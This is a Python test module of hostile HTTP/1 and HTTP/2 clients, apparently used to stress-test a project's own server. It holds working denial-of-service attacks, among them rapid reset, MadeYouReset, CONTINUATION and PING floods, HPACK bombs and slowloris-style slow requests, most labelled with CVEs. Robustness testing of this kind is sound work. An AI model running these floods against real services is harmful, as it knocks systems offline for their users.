"""Hostile clients: ``python -m tests.peers.attacks KIND PORT SECONDS`` does one kind of abuse for so long.

Each attack is a function of a port that abuses one connection until the other end closes it, or until it has
sent a bounded amount; it is called again and again until the time is up.  Run as a process of its own, so that
the victim's clock is not held up by the attacker's work.
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import sys
import time
from collections.abc import Callable

from tests.peers import frames
from tests.peers.frames import ACK, END_HEADERS, END_STREAM, Peer, frame, literal, rst_stream, settings, window_update

__all__ = ["ATTACKS", "HTTP1", "HTTP2"]

Attack = Callable[[int], None]
HTTP1: dict[str, Attack] = {}
HTTP2: dict[str, Attack] = {}
QUIET = 3.0


def http1(attack: Attack) -> Attack:
    HTTP1[attack.__name__] = attack
    return attack


def http2(attack: Attack) -> Attack:
    HTTP2[attack.__name__] = attack
    return attack


# ----- HTTP/2 -----


def _peer(port: int, *pairs: tuple[int, int], receive_buffer: int | None = None) -> Peer:
    peer = Peer.connect(port, QUIET, receive_buffer)
    peer.start(*pairs)
    return peer


def _flood(peer: Peer, batch: Callable[[int], bytes], batches: int, *, drain: bool = True) -> None:
    """Sends batches until the other end closes or does not take more; reads what comes, so as not to block."""
    for index in range(batches):
        peer.send(batch(index))
        if drain:
            _skim(peer.sock)


def _skim(sock: socket.socket) -> None:
    """Throws away what has come."""
    sock.setblocking(False)
    try:
        while True:
            if not sock.recv(1 << 18):
                raise ConnectionError("closed")
    except BlockingIOError:
        pass
    finally:
        sock.settimeout(QUIET)


def _streams(index: int, size: int) -> range:
    return range(1 + 2 * size * index, 1 + 2 * size * (index + 1), 2)


@http2
def rapid_reset(port: int) -> None:
    """CVE-2023-44487: HEADERS and RST_STREAM at once, for ever."""
    peer = _peer(port)

    def batch(index: int) -> bytes:
        return b"".join(
            frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, STATIC) + rst_stream(stream)
            for stream in _streams(index, 100)
        )

    _flood(peer, batch, 1_000)


# A GET in literals only: it means the same however often it is sent, in whatever order.
STATIC = b"\x82\x86\x84" + b"\x01\x06a.test"


@http2
def made_you_reset(port: int) -> None:
    """CVE-2025-8671: each request is followed by a frame for which the server must reset the stream."""
    peer = _peer(port)

    def batch(index: int) -> bytes:
        return b"".join(
            frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, STATIC) + window_update(stream, 0)
            for stream in _streams(index, 100)
        )

    _flood(peer, batch, 1_000)


@http2
def made_you_reset_by_overflow(port: int) -> None:
    """The same by a window that overflows."""
    peer = _peer(port)

    def batch(index: int) -> bytes:
        return b"".join(
            frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, STATIC) + window_update(stream, 0x7FFFFFFF)
            for stream in _streams(index, 100)
        )

    _flood(peer, batch, 1_000)


@http2
def made_you_reset_by_data(port: int) -> None:
    """The same by DATA after END_STREAM."""
    peer = _peer(port)

    def batch(index: int) -> bytes:
        return b"".join(
            frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, STATIC) + frame(frames.DATA, 0, stream, b"x")
            for stream in _streams(index, 100)
        )

    _flood(peer, batch, 1_000)


@http2
def malformed_requests(port: int) -> None:
    """Requests that are stream errors each: an upper-case name."""
    peer = _peer(port)

    def batch(index: int) -> bytes:
        block = STATIC + literal(b"X-Upper", b"a")
        return b"".join(
            frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in _streams(index, 100)
        )

    _flood(peer, batch, 1_000)


@http2
def continuation_flood(port: int) -> None:
    """A header block that never ends."""
    peer = _peer(port)
    peer.send(frame(frames.HEADERS, END_STREAM, 1, STATIC))
    more = frame(frames.CONTINUATION, 0, 1, literal(b"a", b"b" * 100) * 100)
    _flood(peer, lambda _: more * 4, 2_000)


@http2
def empty_continuations(port: int) -> None:
    """The same with frames that hold nothing."""
    peer = _peer(port)
    peer.send(frame(frames.HEADERS, END_STREAM, 1, STATIC))
    _flood(peer, lambda _: frame(frames.CONTINUATION, 0, 1) * 1_000, 500)


@http2
def ping_flood(port: int) -> None:
    """PINGs without a pause."""
    _flood(_peer(port), lambda _: frame(frames.PING, 0, 0, b"12345678") * 1_000, 500)


@http2
def ping_flood_never_read(port: int) -> None:
    """PINGs whose answers are never read (CVE-2019-9512)."""
    peer = _peer(port, receive_buffer=4_096)
    _flood(peer, lambda _: frame(frames.PING, 0, 0, b"12345678") * 1_000, 2_000, drain=False)


@http2
def settings_flood(port: int) -> None:
    """SETTINGS without a pause."""
    _flood(_peer(port), lambda _: settings((4, 65_535)) * 1_000, 500)


@http2
def settings_window_swings(port: int) -> None:
    """The initial window up and down with streams open."""
    peer = _peer(port, (4, 0))
    for stream in range(1, 101, 2):
        peer.get(stream, path=b"/1m")
    _flood(peer, lambda _: (settings((4, 1)) + settings((4, 0))) * 100, 500)


@http2
def priority_flood(port: int) -> None:
    """PRIORITY for ever new streams."""

    def batch(index: int) -> bytes:
        return b"".join(
            frame(frames.PRIORITY, 0, stream, struct.pack(">IB", 0, 15)) for stream in _streams(index, 1_000)
        )

    _flood(_peer(port), batch, 200)


@http2
def empty_data(port: int) -> None:
    """DATA that holds nothing (CVE-2019-9518)."""
    peer = _peer(port)
    peer.send(peer.headers(1, method=b"POST", path=b"/sink"))
    _flood(peer, lambda _: frame(frames.DATA, 0, 1) * 1_000, 500)


@http2
def tiny_data(port: int) -> None:
    """DATA of one byte each, padded to the full (CVE-2020-12603)."""
    peer = _peer(port)
    peer.send(peer.headers(1, method=b"POST", path=b"/sink"))
    tiny = frame(frames.DATA, frames.PADDED, 1, bytes([200]) + b"x" + bytes(200))
    _flood(peer, lambda _: tiny * 100, 500)


@http2
def window_update_flood(port: int) -> None:
    """WINDOW_UPDATE of 1, without a pause."""
    peer = _peer(port, (4, 0))
    peer.get(1, path=b"/1m")
    _flood(peer, lambda _: window_update(1, 1) * 1_000, 500)


@http2
def connection_window_overflow(port: int) -> None:
    """The connection's window pushed over 2³¹-1."""
    peer = _peer(port)
    peer.send(window_update(0, 0x7FFFFFFF) * 2)
    peer.read_until_closed(2)


@http2
def windows_never_opened(port: int) -> None:
    """A hundred large answers asked for, none of which may be sent (CVE-2019-9517)."""
    peer = _peer(port, (4, 0))
    for stream in range(1, 201, 2):
        peer.get(stream, path=b"/1m")
    time.sleep(1)


@http2
def answers_never_read(port: int) -> None:
    """Windows wide open, and nothing is read (CVE-2019-9511)."""
    peer = _peer(port, (4, 0x7FFFFFFF), receive_buffer=4_096)
    peer.send(window_update(0, 0x7FFF0000))
    for stream in range(1, 201, 2):
        peer.get(stream, path=b"/1m")
    time.sleep(1)


@http2
def hpack_bomb(port: int) -> None:
    """A large field in the table, named thousands of times (CVE-2016-6581)."""
    peer = _peer(port)
    value = b"x" * 4_000
    bomb = b"\x40\x01a\x7f" + _integer(len(value) - 127) + value + b"\xbe" * 16_000

    def batch(index: int) -> bytes:
        return _headers_in_frames(2 * index + 1, STATIC + bomb)

    _flood(peer, batch, 200)


@http2
def cookie_bomb(port: int) -> None:
    """Thousands of cookie crumbs (CVE-2026-47774)."""
    peer = _peer(port)
    crumb = b"\x0f\x11\x03a=b"

    def batch(index: int) -> bytes:
        return _headers_in_frames(2 * index + 1, STATIC + crumb * 8_000)

    _flood(peer, batch, 200)


@http2
def header_flood(port: int) -> None:
    """Thousands of small fields a request."""
    peer = _peer(port)

    def batch(index: int) -> bytes:
        return _headers_in_frames(2 * index + 1, STATIC + literal(b"a", b"b") * 3_000)

    _flood(peer, batch, 200)


@http2
def huge_field(port: int) -> None:
    """One field of a megabyte."""
    peer = _peer(port)
    value = b"v" * (1 << 20)
    block = STATIC + b"\x10\x01a\x7f" + _integer(len(value) - 127) + value

    def batch(index: int) -> bytes:
        return _headers_in_frames(2 * index + 1, block)

    _flood(peer, batch, 20)


@http2
def table_size_updates(port: int) -> None:
    """Header blocks that are mostly dynamic table size updates."""
    peer = _peer(port)

    def batch(index: int) -> bytes:
        return _headers_in_frames(2 * index + 1, b"\x20\x3f\xe1\x1f" * 3_000 + STATIC)

    _flood(peer, batch, 100)


@http2
def unknown_frames(port: int) -> None:
    """Frames of a type nobody knows."""
    _flood(_peer(port), lambda _: frame(0xBE, 0, 0, b"12345678") * 1_000, 500)


@http2
def goaway_flood(port: int) -> None:
    """GOAWAY again and again."""
    _flood(_peer(port), lambda _: frame(frames.GOAWAY, 0, 0, bytes(8)) * 1_000, 500)


@http2
def settings_acks(port: int) -> None:
    """Acknowledgements of settings that nobody sent."""
    _flood(_peer(port), lambda _: frame(frames.SETTINGS, ACK, 0) * 1_000, 500)


@http2
def slow_header_block(port: int) -> None:
    """Fifty header blocks that are begun and never ended."""
    peers = [_peer(port) for _ in range(50)]
    for peer in peers:
        peer.send(frame(frames.HEADERS, END_STREAM, 1, STATIC))
    time.sleep(1)
    for peer in peers:
        peer.close()


@http2
def more_streams_than_allowed(port: int) -> None:
    """Ten thousand uploads at once."""
    peer = _peer(port)

    def batch(index: int) -> bytes:
        return b"".join(frame(frames.HEADERS, END_HEADERS, stream, STATIC) for stream in _streams(index, 100))

    _flood(peer, batch, 100)


@http2
def garbage_frames(port: int) -> None:
    """A preface and then noise."""
    peer = _peer(port)
    peer.send(os.urandom(100_000))
    peer.read_until_closed(1)


@http2
def oversized_frame(port: int) -> None:
    """A frame that says it is 16 MiB long."""
    peer = _peer(port)
    peer.send(b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(1 << 20))
    peer.read_until_closed(1)


def _integer(value: int) -> bytes:
    """The rest of an HPACK integer."""
    out = bytearray()
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    out.append(value)
    return bytes(out)


def _headers_in_frames(stream: int, block: bytes) -> bytes:
    pieces = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
    out = frame(frames.HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), stream, pieces[0])
    for index, piece in enumerate(pieces[1:], 2):
        out += frame(frames.CONTINUATION, END_HEADERS if index == len(pieces) else 0, stream, piece)
    return out


# ----- HTTP/1 -----

GET = b"GET / HTTP/1.1\r\nhost: a.test\r\n\r\n"


def _connect(port: int, receive_buffer: int | None = None) -> socket.socket:
    return Peer.connect(port, QUIET, receive_buffer).sock


def _until_closed(sock: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while sock.recv(1 << 16):
            pass


@http1
def slow_heads(port: int) -> None:
    """Two hundred heads, a byte at a time."""
    socks = [_connect(port) for _ in range(200)]
    for byte in GET[:10]:
        for sock in socks:
            sock.sendall(bytes([byte]))
        time.sleep(0.1)
    for sock in socks:
        sock.close()


@http1
def slow_bodies(port: int) -> None:
    """Two hundred bodies, a byte at a time."""
    socks = [_connect(port) for _ in range(200)]
    for sock in socks:
        sock.sendall(b"POST /sink HTTP/1.1\r\nhost: a.test\r\ncontent-length: 1000\r\n\r\n")
    for _ in range(10):
        for sock in socks:
            sock.sendall(b"x")
        time.sleep(0.1)
    for sock in socks:
        sock.close()


@http1
def many_fields(port: int) -> None:
    """A head with a hundred thousand fields."""
    sock = _connect(port)
    sock.sendall(GET[:-2] + b"a: b\r\n" * 100_000 + b"\r\n")
    _until_closed(sock)


@http1
def huge_head(port: int) -> None:
    """A field of sixteen megabytes, and a request line of one."""
    sock = _connect(port)
    with contextlib.suppress(OSError):
        sock.sendall(GET[:-2] + b"a: " + b"x" * (16 << 20))
    sock.close()
    sock = _connect(port)
    sock.sendall(b"GET /" + b"x" * (1 << 20) + b" HTTP/1.1\r\n\r\n")
    _until_closed(sock)


@http1
def garbage(port: int) -> None:
    """Noise that begins like a request."""
    for start in (b"GET ", b"POST / HTTP/1.1\r\n", b"\r\n\r\n\r\n", b"A" * 20):
        sock = _connect(port)
        with contextlib.suppress(OSError):
            sock.sendall(start + os.urandom(50_000))
            sock.shutdown(socket.SHUT_WR)
        _until_closed(sock)
        sock.close()


@http1
def pipeline_never_read(port: int) -> None:
    """A million requests in a row, no answer read."""
    sock = _connect(port, receive_buffer=4_096)
    for _ in range(1_000):
        sock.sendall(GET * 1_000)


@http1
def large_answers_never_read(port: int) -> None:
    """Fifty large answers, none of them read."""
    socks = [_connect(port, receive_buffer=4_096) for _ in range(50)]
    for sock in socks:
        sock.sendall(b"GET /1m HTTP/1.1\r\nhost: a.test\r\n\r\n" * 20)
    time.sleep(1)
    for sock in socks:
        sock.close()


@http1
def tiny_chunks(port: int) -> None:
    """A chunked body of one byte a chunk."""
    sock = _connect(port)
    sock.sendall(b"POST /sink HTTP/1.1\r\nhost: a.test\r\ntransfer-encoding: chunked\r\n\r\n")
    for _ in range(200):
        sock.sendall(b"1\r\nx\r\n" * 1_000)


@http1
def endless_chunk_extension(port: int) -> None:
    """A chunk whose extension never ends."""
    sock = _connect(port)
    sock.sendall(b"POST /sink HTTP/1.1\r\nhost: a.test\r\ntransfer-encoding: chunked\r\n\r\n1;")
    for _ in range(500):
        sock.sendall(b"x" * 16_384)
    _until_closed(sock)


@http1
def endless_trailers(port: int) -> None:
    """Trailers without end."""
    sock = _connect(port)
    sock.sendall(b"POST /sink HTTP/1.1\r\nhost: a.test\r\ntransfer-encoding: chunked\r\n\r\n0\r\n")
    for _ in range(500):
        sock.sendall(b"a: b\r\n" * 1_000)
    _until_closed(sock)


@http1
def empty_lines(port: int) -> None:
    """Empty lines in place of a request."""
    sock = _connect(port)
    for _ in range(500):
        sock.sendall(b"\r\n" * 8_192)
    _until_closed(sock)


@http1
def connects_without_a_word(port: int) -> None:
    """Connections that are made and reset."""
    for _ in range(100):
        sock = _connect(port)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        sock.close()


@http1
def silent_connections(port: int) -> None:
    """Five hundred connections that say nothing."""
    socks = [_connect(port) for _ in range(500)]
    time.sleep(1)
    for sock in socks:
        sock.close()


ATTACKS = {**HTTP1, **HTTP2}


def main() -> None:
    """Attacks until the time is up, with a short pause between connections."""
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    end = time.monotonic() + seconds
    attack = ATTACKS[kind]
    connections = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            attack(port)
        connections += 1
        # One attacker with a link of its own, not a botnet: what comes of many connections is for
        # limits on connections.
        time.sleep(0.05)
    print(connections)


if __name__ == "__main__":
    main()
